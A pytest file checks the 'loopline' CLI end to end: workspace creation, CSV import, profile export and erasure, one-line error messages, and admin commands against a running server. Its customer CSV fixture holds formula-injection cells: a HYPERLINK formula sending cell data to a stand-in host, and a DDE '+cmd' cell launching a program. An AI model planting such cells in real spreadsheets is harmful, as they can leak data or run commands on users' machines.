"""The real ``loopline`` command, run as a user runs it: a separate process on a data directory.

Only a separate process shows what a user sees when something goes wrong: ``main()``
must turn every failure into one ``error:`` line and a non-zero exit code, never a
traceback. The administrative commands must work both on their own and while
``loopline serve`` owns the data directory (through the server, without lock errors).
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import orjson
import pytest

from loopline.bootstrap import build_runtime
from loopline.config import Settings
from loopline.domain.keys import KeyKind
from loopline.serverfile import NAME as SERVER_FILE

COMMAND_TIMEOUT_S = 120
SERVER_START_TIMEOUT_S = 60
# A customers file as spreadsheets write them: a byte-order mark, a bad address, and
# cells a spreadsheet would run as formulas (they are data and must come back verbatim).
CUSTOMERS_CSV = (
    "\ufeffuser_id,email,first_name,city,note\n"
    'c-1,Ana@Example.com,Ana,Lisboa,"=HYPERLINK(""http://x/?""&A1)"\n'
    "c-2,not-an-email,Bob,Porto,+cmd|'/C calc'!A0\n"
    "c-3,cy@example.com,Cy,Faro,@SUM(1+1)\n"
    ",dee@example.com,Dee,Braga,-1+1\n"
).encode()


def loopline_executable() -> str:
    """Return the installed ``loopline`` entry point of this environment."""
    beside = Path(sys.executable).with_name("loopline")
    found = str(beside) if beside.exists() else shutil.which("loopline")
    assert found, "the loopline command is not installed in this environment"
    return found


def cli_env(data_dir: Path) -> dict[str, str]:
    """Return an environment naming only the data directory (no settings leak in from outside)."""
    env = {name: value for name, value in os.environ.items() if not name.startswith("LOOPLINE_")}
    env["LOOPLINE_DATA_DIR"] = str(data_dir)
    env["LOOPLINE_CONFIG_FILE"] = str(data_dir.parent / "no-such-loopline.toml")
    return env


@dataclass
class Cli:
    """Runs ``loopline`` on one data directory."""

    data_dir: Path

    def run(self, *args: str) -> subprocess.CompletedProcess[str]:
        """Run one command to completion and return what it printed."""
        return subprocess.run(
            [loopline_executable(), *args], env=cli_env(self.data_dir), cwd=self.data_dir.parent,
            capture_output=True, text=True, timeout=COMMAND_TIMEOUT_S, check=False,
        )

    def ok(self, *args: str) -> subprocess.CompletedProcess[str]:
        """Run a command that must succeed cleanly."""
        result = self.run(*args)
        assert result.returncode == 0, (args, result.stdout, result.stderr)
        assert_no_traceback(result)
        return result

    def create_workspace(self, name: str = "Shop") -> dict[str, str]:
        """Create a workspace and return its id and keys."""
        created: dict[str, str] = orjson.loads(self.ok("workspace", "create", name, "--json").stdout)
        return created


def assert_no_traceback(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stdout + result.stderr


def assert_one_line_error(result: subprocess.CompletedProcess[str], *fragments: str) -> None:
    """The command failed with one ``error:`` line naming the problem, and no traceback."""
    assert result.returncode != 0, (result.stdout, result.stderr)
    assert_no_traceback(result)
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: "), result.stderr
    for fragment in fragments:
        assert fragment in lines[0], result.stderr


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    return Cli(tmp_path / "data")


@pytest.fixture(scope="module")
def customers_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("files") / "customers.csv"
    path.write_bytes(CUSTOMERS_CSV)
    return path


@dataclass
class Prepared:
    """A data directory set up by the CLI itself: upgraded twice, one workspace, customers imported."""

    cli: Cli
    upgrades: list[subprocess.CompletedProcess[str]]
    created: subprocess.CompletedProcess[str]
    imported: subprocess.CompletedProcess[str]

    @property
    def workspace(self) -> str:
        workspace_id: str = orjson.loads(self.created.stdout)["id"]
        return workspace_id


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory, customers_csv: Path) -> Prepared:
    """Each command costs a process start, so the read-mostly tests share one data directory."""
    cli = Cli(tmp_path_factory.mktemp("shared") / "data")
    upgrades = [cli.ok("db", "upgrade"), cli.ok("db", "upgrade")]
    created = cli.ok("workspace", "create", "Shop", "--json")
    workspace = orjson.loads(created.stdout)["id"]
    imported = cli.ok("import", "customers", str(customers_csv), "--workspace", workspace)
    return Prepared(cli, upgrades, created, imported)


# --- on its own --------------------------------------------------------------------------


def test_help_lists_every_command(cli: Cli) -> None:
    result = cli.ok("--help")
    for command in ("serve", "demo", "db", "workspace", "import", "export", "erase", "bench"):
        assert command in result.stdout


def test_db_upgrade_is_safe_to_repeat(prepared: Prepared) -> None:
    first, second = prepared.upgrades
    assert "revision" in first.stdout
    assert first.stdout == second.stdout
    assert (prepared.cli.data_dir / "loopline.sqlite3").exists()


def test_workspace_create_json_prints_exactly_the_id_and_working_keys(prepared: Prepared) -> None:
    assert prepared.created.stdout.count("\n") == 1  # one JSON line, nothing else on stdout
    created = orjson.loads(prepared.created.stdout)
    assert set(created) == {"id", "write_key", "secret_key"}
    runtime = build_runtime(Settings(data_dir=prepared.cli.data_dir))
    try:
        for key, kind in ((created["write_key"], KeyKind.WRITE), (created["secret_key"], KeyKind.SECRET)):
            assert runtime.keys.authenticate(key, kind=kind).workspace_id == created["id"]
    finally:
        runtime.services.close()


def test_import_reports_rows_and_the_bad_one(prepared: Prepared) -> None:
    assert "imported 3 of 4 rows; 1 failed" in prepared.imported.stdout
    assert "line 3" in prepared.imported.stdout
    assert "not-an-email" in prepared.imported.stdout


def test_export_prints_the_customer_as_json(prepared: Prepared) -> None:
    exported = prepared.cli.ok("export", "profile", "ana@example.com", "--workspace", prepared.workspace)
    document = orjson.loads(exported.stdout)
    assert document["workspace_id"] == prepared.workspace
    # Formula-like cells are data: kept verbatim in JSON (only CSV exports neutralise them).
    assert document["traits"] == {"email": "Ana@Example.com", "first_name": "Ana", "city": "Lisboa",
                                  "note": '=HYPERLINK("http://x/?"&A1)'}
    assert {"kind": "user_id", "value": "c-1"} in document["identities"]  # the BOM did not eat "user_id"
    assert {"kind": "email", "value": "ana@example.com"} in document["identities"]
    assert len(document["events"]) == 1


def test_an_import_uploaded_again_imports_nothing_twice(prepared: Prepared, customers_csv: Path) -> None:
    again = prepared.cli.ok("import", "customers", str(customers_csv), "--workspace", prepared.workspace)
    assert "1 failed" in again.stdout
    document = orjson.loads(prepared.cli.ok("export", "profile", "c-1", "--workspace", prepared.workspace).stdout)
    assert len(document["events"]) == 1
    assert document["traits"]["note"] == '=HYPERLINK("http://x/?"&A1)'


def test_erase_removes_the_customer(prepared: Prepared) -> None:
    erased = prepared.cli.ok("erase", "profile", "dee@example.com", "--workspace", prepared.workspace)
    assert "completed" in erased.stdout
    assert "1 events deleted" in erased.stdout
    gone = prepared.cli.run("export", "profile", "dee@example.com", "--workspace", prepared.workspace)
    assert_one_line_error(gone, "dee@example.com")


@pytest.mark.parametrize(("args", "fragments"), [
    pytest.param(("export", "profile", "nobody@example.com", "--workspace", "ws_nope"), ("nobody@example.com",),
                 id="export-unknown-workspace"),
    pytest.param(("erase", "profile", "nobody@example.com", "--workspace", "ws_nope"), ("nobody@example.com",),
                 id="erase-unknown-workspace"),
    pytest.param(("export", "profile", "ghost"), ("ghost",), id="export-unknown-profile"),
    pytest.param(("erase", "profile", "ghost"), ("ghost",), id="erase-unknown-profile"),
    pytest.param(("bench", "no-such-bench"), ("no-such-bench",), id="unknown-bench"),
])
def test_errors_are_one_line_without_a_traceback(
    prepared: Prepared, args: tuple[str, ...], fragments: tuple[str, ...],
) -> None:
    if "--workspace" not in args and args[0] != "bench":
        args = (*args, "--workspace", prepared.workspace)
    assert_one_line_error(prepared.cli.run(*args), *fragments)


def test_a_missing_file_is_one_line_error(prepared: Prepared, tmp_path: Path) -> None:
    missing = tmp_path / "missing.csv"
    result = prepared.cli.run("import", "customers", str(missing), "--workspace", prepared.workspace)
    assert_one_line_error(result, "missing.csv")


def test_a_long_error_stays_on_one_line(prepared: Prepared) -> None:
    reference = "someone.with.a.rather.long.address@example.com"
    result = prepared.cli.run("export", "profile", reference, "--workspace", prepared.workspace)
    assert_one_line_error(result, reference)


def test_import_into_an_unknown_workspace_is_refused(prepared: Prepared, customers_csv: Path) -> None:
    result = prepared.cli.run("import", "customers", str(customers_csv), "--workspace", "ws_nope")
    assert_one_line_error(result, "workspace")


def test_repeating_an_erasure_returns_the_same_job(prepared: Prepared) -> None:
    first = prepared.cli.ok("erase", "profile", "c-3", "--workspace", prepared.workspace)
    assert prepared.cli.ok("erase", "profile", "c-3", "--workspace", prepared.workspace).stdout == first.stdout


# --- while `loopline serve` owns the data directory -------------------------------------


def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


@pytest.fixture
def served(cli: Cli) -> Iterator[str]:
    """Run ``loopline serve`` on a fresh data directory; yield its URL; stop it with SIGINT."""
    port = free_port()
    process = subprocess.Popen(
        [loopline_executable(), "serve", "--port", str(port)], env=cli_env(cli.data_dir),
        cwd=cli.data_dir.parent, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + SERVER_START_TIMEOUT_S
        while True:
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline, "loopline serve did not answer /health"
            try:
                if httpx.get(f"{url}/health", timeout=1).status_code == 200:
                    break
            except httpx.TransportError:
                time.sleep(0.05)
        assert (cli.data_dir / SERVER_FILE).exists()
        yield url
    finally:
        if process.poll() is None:
            process.send_signal(signal.SIGINT)
        try:
            out, err = process.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            out, err = process.communicate()
            pytest.fail(f"loopline serve did not stop on SIGINT: {out}{err}")
    assert process.returncode == 0, (out, err)
    assert "Traceback" not in out + err
    assert not (cli.data_dir / SERVER_FILE).exists(), "the server file outlived the server"


def assert_no_lock_error(result: subprocess.CompletedProcess[str]) -> None:
    assert "lock" not in (result.stdout + result.stderr).lower(), (result.stdout, result.stderr)


def test_admin_commands_work_through_a_running_server(
    cli: Cli, served: str, customers_csv: Path,
) -> None:
    created = cli.create_workspace("Served shop")
    assert set(created) == {"id", "write_key", "secret_key"}
    workspace = created["id"]
    secret = {"Authorization": f"Bearer {created['secret_key']}"}
    assert httpx.get(f"{served}/api/v1/keys", headers=secret, timeout=10).status_code == 200

    imported = cli.ok("import", "customers", str(customers_csv), "--workspace", workspace)
    assert_no_lock_error(imported)
    assert "imported 3 of 4 rows; 1 failed" in imported.stdout

    # The server projects in the background: wait (bounded) for the profile to appear.
    deadline = time.monotonic() + 30
    while httpx.get(f"{served}/api/v1/profiles/c-1", headers=secret, timeout=10).status_code != 200:
        assert time.monotonic() < deadline, "the imported customer never appeared"
        time.sleep(0.05)
    exported = cli.ok("export", "profile", "ana@example.com", "--workspace", workspace)
    assert_no_lock_error(exported)
    document = orjson.loads(exported.stdout)
    assert document["traits"]["note"] == '=HYPERLINK("http://x/?"&A1)'
    assert {"kind": "user_id", "value": "c-1"} in document["identities"]

    erased = cli.ok("erase", "profile", "c-1", "--workspace", workspace)
    assert_no_lock_error(erased)
    assert "completed" in erased.stdout
    assert cli.ok("erase", "profile", "c-1", "--workspace", workspace).stdout == erased.stdout
    assert httpx.get(f"{served}/api/v1/profiles/c-1", headers=secret, timeout=10).status_code == 404

    for result, fragment in (
        (cli.run("export", "profile", "c-1", "--workspace", workspace), "c-1"),
        (cli.run("erase", "profile", "ghost", "--workspace", workspace), "ghost"),
        (cli.run("export", "profile", "c-3", "--workspace", "ws_nope"), "workspace"),
        (cli.run("import", "customers", str(customers_csv), "--workspace", "ws_nope"), "workspace"),
    ):
        assert_no_lock_error(result)
        assert_one_line_error(result, fragment)
